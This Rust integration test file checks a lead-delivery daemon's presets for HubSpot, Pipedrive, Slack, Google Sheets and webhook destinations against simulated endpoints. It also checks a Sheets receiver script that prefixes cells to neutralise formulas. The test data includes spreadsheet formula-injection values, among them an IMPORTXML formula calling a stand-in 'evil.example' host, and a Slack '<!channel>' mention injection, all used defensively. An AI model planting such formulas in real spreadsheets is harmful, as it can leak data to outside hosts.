//! Each preset sends what its destination takes, and the log says what its answers mean. The destinations are imitated by what
//! docs/destinations.md says of them, under their own names.

use std::{collections::HashSet, process::Command};

use serde_json::{Value, json};

use crate::{
    harness::{Answer, Cluster, Database, Receiver, Request, Setup, left_out},
    own_world::{INTERNET, NameServer, Reply},
};

/// A preset at its destination, and how each lead ends there: one with everything, one with an email alone, one with a phone
/// alone, and the first again, come back.
const FITS: [(&str, &str, &[&str], [&str; 4]); 10] = [
    (
        "hubspot-upsert",
        "https://api.hubapi.com/crm/v3/objects/contacts/batch/upsert",
        &["Authorization: Bearer t0k3n"],
        ["delivered 200", "delivered 200", "failed 400", "delivered 200"],
    ),
    (
        "hubspot-create",
        "https://api.hubapi.com/crm/v3/objects/contacts",
        &["Authorization: Bearer t0k3n"],
        ["delivered 201", "delivered 201", "failed 400", "failed 409"],
    ),
    ("hubspot-form", "https://api.hsforms.com/submissions/v3/integration/submit/1/2", &[], ["delivered 200"; 4]),
    ("pipedrive", "https://acme.pipedrive.com/api/v2/persons", &["x-api-token: t0k3n"], ["delivered 201"; 4]),
    ("slack", "https://hooks.slack.com/services/T000/B000/t0k3n", &[], ["delivered 200"; 4]),
    ("google-sheets", "https://script.google.com/macros/s/deployed/exec?token=t0k3n", &[], ["delivered 302"; 4]),
    ("google-sheets", "https://script.google.com/macros/s/private/exec?token=t0k3n", &[], ["failed 302"; 4]),
    ("zapier", "https://hooks.zapier.com/hooks/catch/1/2/", &[], ["delivered 200"; 4]),
    ("make", "https://hook.eu2.make.com/t0k3n", &[], ["delivered 200"; 4]),
    ("n8n", "https://n8n.example.net/webhook/leads", &[], ["delivered 200"; 4]),
];

const NAMES: [&str; 8] = [
    "api.hubapi.com",
    "api.hsforms.com",
    "acme.pipedrive.com",
    "hooks.slack.com",
    "script.google.com",
    "hooks.zapier.com",
    "hook.eu2.make.com",
    "n8n.example.net",
];

/// What the destinations know.
#[derive(Default)]
struct Destinations {
    contacts: HashSet<String>,
}

impl Destinations {
    fn answer(&mut self, request: &Request) -> Answer {
        let body: Value = serde_json::from_slice(&request.body).unwrap();
        let host = request.header("host").unwrap().split(':').next().unwrap();
        let bearer = request.header("authorization") == Some("Bearer t0k3n");
        match host {
            "api.hubapi.com" if !bearer => Answer::status(401),
            "api.hubapi.com" if request.path.ends_with("/upsert") => upsert(&body["inputs"][0]),
            "api.hubapi.com" => self.create(&body["properties"]),
            "api.hsforms.com" => form(&body["fields"]),
            "acme.pipedrive.com" if request.header("x-api-token") != Some("t0k3n") => Answer::status(401),
            "acme.pipedrive.com" => person(&body),
            "hooks.slack.com" => message(&body),
            "script.google.com" if request.path.contains("/deployed/") => {
                redirected("https://script.googleusercontent.com/macros/echo?lib=x")
            }
            "script.google.com" => redirected("https://accounts.google.com/ServiceLogin"),
            _ => whole_lead(&body),
        }
    }

    /// At least one of three properties; a known email conflicts.
    fn create(&mut self, properties: &Value) -> Answer {
        let email = text(&properties["email"]);
        if email.is_empty() && text(&properties["firstname"]).is_empty() {
            return Answer::status(400);
        }
        if self.contacts.insert(email.to_owned()) {
            return Answer::status(201);
        }
        let conflict =
            json!({ "status": "error", "message": "Contact already exists. Existing ID: 7", "category": "CONFLICT" });
        Answer::status(409).header("Content-Type", "application/json").body(conflict.to_string())
    }
}

fn text(value: &Value) -> &str {
    value.as_str().unwrap_or_default()
}

fn redirected(location: &str) -> Answer {
    Answer::status(302).header("Location", location)
}

/// By email; an empty property would clear what is there, so there must be none.
fn upsert(input: &Value) -> Answer {
    let properties = input["properties"].as_object().unwrap();
    assert!(properties.values().all(|value| !text(value).is_empty()), "{input}");
    if input["idProperty"] == "email" && text(&input["id"]).contains('@') {
        Answer::status(200).body(r#"{"status":"COMPLETE"}"#)
    } else {
        Answer::status(400)
    }
}

fn form(fields: &Value) -> Answer {
    let fields = fields.as_array().unwrap();
    assert!(fields.iter().all(|field| field["objectTypeId"] == "0-1" && field["value"].is_string()), "{fields:?}");
    Answer::status(200)
}

/// A name is needed, and an empty email or phone may be refused.
fn person(person: &Value) -> Answer {
    let contacts = ["emails", "phones"].iter().filter_map(|kind| person[*kind].as_array()).flatten();
    for contact in contacts {
        assert!(!text(&contact["value"]).is_empty(), "{person}");
    }
    if text(&person["name"]).trim().is_empty() { Answer::status(400) } else { Answer::status(201) }
}

/// In `mrkdwn` a visitor's name could call everybody.
fn message(message: &Value) -> Answer {
    assert_eq!(message["blocks"][0]["text"]["type"], "plain_text");
    Answer::status(200).body("ok")
}

fn whole_lead(lead: &Value) -> Answer {
    assert!(lead["leadId"].is_string() && lead["event"].is_string(), "{lead}");
    Answer::status(200).body("Accepted")
}

/// The four leads of `tenant`, one after the other.
async fn capture(setup: &Setup, tenant: &str, seen: usize) {
    let app = setup.db.app().await;
    let insert = "INSERT INTO leads (tenant_id, email, phone, first_name, last_conversation_at)
                  VALUES ($1, $2, $3, $4, '2000-01-01')";
    let leads = [
        (Some("ann@example.com"), Some("+491234567890"), Some("Ann <!channel>")),
        (Some("bob@example.com"), None, None),
        (None, Some("+499876543210"), None),
    ];
    for (nth, (email, phone, name)) in (1..).zip(leads) {
        app.execute(insert, &[&tenant, &email, &phone, &name]).await.unwrap();
        setup.db.wait_for_log(seen + nth).await;
    }
    let back = "UPDATE leads SET last_conversation_at = '2020-01-01' WHERE tenant_id = $1 AND email LIKE 'ann@%'";
    app.execute(back, &[&tenant]).await.unwrap();
    setup.db.wait_for_log(seen + 4).await;
}

#[tokio::test]
async fn each_preset_sends_what_its_destination_takes() {
    if !INTERNET.is_here("fits_destinations::each_preset_sends_what_its_destination_takes") {
        return;
    }
    let (receiver, dns) = (Receiver::start_for(&NAMES), NameServer::start());
    NAMES.iter().for_each(|name| dns.say(name, &[Reply::Addresses(vec!["127.0.0.1".parse().unwrap()])]));
    let port = receiver.port();
    let mut destinations = Destinations::default();
    receiver.answer_with(move |request| destinations.answer(request));
    let setup = Setup::prepare(Database::create(&Cluster::shared()).await, receiver).await;
    setup.run(&["migrate"]).await.ok();
    let _daemon = setup.daemon();
    for (nth, (preset, url, headers, expected)) in FITS.iter().enumerate() {
        let (tenant, host) = (format!("tenant{nth}"), url.split('/').nth(2).unwrap());
        let url = url.replacen(host, &format!("{host}:{port}"), 1);
        let mut set = vec!["endpoint", "set", &tenant, "--preset", preset, "--url", &url];
        headers.iter().for_each(|header| set.extend(["--header", header]));
        let told = setup.run(&set).await.ok().stderr;
        assert!(!told.contains("its URL is") && !told.contains("needs the header"), "{preset}: {told}");
        setup.run(&["secret", "generate", &tenant]).await.ok();
        capture(&setup, &tenant, 4 * nth).await;
        let rows = setup.db.log_rows().await;
        let rows = rows.iter().filter(|row| row.tenant_id == tenant);
        let ended: Vec<_> = rows.map(|row| format!("{} {}", row.status, row.http_status.unwrap_or_default())).collect();
        assert_eq!(ended, *expected, "{preset}");
    }
    // What a refusal means there is told with it.
    for (tenant, hint) in [("tenant1", "hubspot-upsert"), ("tenant6", "anyone")] {
        let failed =
            setup.run(&["deliveries", "list", "--tenant", tenant, "--status", "failed", "--json"]).await.ok().stdout;
        let failed: Value = serde_json::from_str(failed.lines().next().unwrap()).unwrap();
        let shown = setup.run(&["deliveries", "show", failed["delivery_id"].as_str().unwrap()]).await.ok().stdout;
        assert!(shown.contains(hint), "{tenant}: {shown}");
    }
}

/// Apps Script's own parts, as far as the script asks for them; what it appended is printed.
const SHEET: &str = r"
const rows = [];
globalThis.PropertiesService = { getScriptProperties: () => ({ getProperty: () => 't0k3n' }) };
globalThis.ContentService = { createTextOutput: (text) => text };
const sheet = { getLastRow: () => rows.length, appendRow: (row) => rows.push(row) };
globalThis.SpreadsheetApp = { getActiveSpreadsheet: () => ({ getSheets: () => [sheet] }) };
const fs = require('node:fs');
(0, eval)(fs.readFileSync(process.argv[1], 'utf8') + ';globalThis.doPost = doPost');
const answers = JSON.parse(fs.readFileSync(0, 'utf8')).map(([token, contents]) => doPost({ parameter: { token }, postData: { contents } }));
console.log(JSON.stringify({ rows, answers }));
";

#[tokio::test]
async fn the_sheets_script_appends_what_is_sent_and_computes_none_of_it() {
    if Command::new("node").arg("--version").output().is_err() {
        return left_out("docs/receivers/google-sheet.gs: no node here");
    }
    let setup = Setup::new().await;
    setup.endpoint("acme").await;
    let _daemon = setup.daemon();
    let insert = "INSERT INTO leads (tenant_id, email, phone, conversation_id) VALUES ('acme', $1, $2, $3)";
    for (email, phone, conversation) in [
        ("ann@example.com", Some("+491234567890"), "plain"),
        ("=cmd@example.com", None, "=IMPORTXML(\"https://evil.example\")"),
        ("@bob@example.com", Some("01712345678"), "\t=1+1"),
    ] {
        setup.db.app().await.execute(insert, &[&email, &phone, &conversation]).await.unwrap();
    }
    let bodies = setup.receiver.wait_for(3).await.into_iter().map(|request| String::from_utf8(request.body).unwrap());
    let mut asked: Vec<_> = bodies.map(|body| json!(["t0k3n", body])).collect();
    let stranger = json!(["guess", asked[0][1]]);
    asked.push(stranger);
    setup.db.wait_for_log(3).await;
    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/docs/receivers/google-sheet.gs");
    let input = setup.path("asked");
    std::fs::write(&input, Value::Array(asked).to_string()).unwrap();
    let output =
        Command::new("node").args(["-e", SHEET, script]).stdin(std::fs::File::open(input).unwrap()).output().unwrap();
    let told: Value = serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|_| panic!("{}", String::from_utf8_lossy(&output.stderr)));
    assert_eq!(told["answers"], json!(["ok", "ok", "ok", "refused"]));
    let rows = told["rows"].as_array().unwrap();
    assert_eq!((rows.len(), &rows[0][0]), (4, &json!("event")));
    let cells = rows.iter().skip(1).flat_map(|row| row.as_array().unwrap()).map(|cell| cell.as_str().unwrap());
    assert!(cells.clone().all(|cell| cell.is_empty() || cell.starts_with('\'')), "{rows:#?}");
    for kept in
        ["'ann@example.com", "'+491234567890", "'=cmd@example.com", "'@bob@example.com", "'01712345678", "'\t=1+1"]
    {
        assert!(cells.clone().any(|cell| cell == kept), "{kept}: {rows:#?}");
    }
}
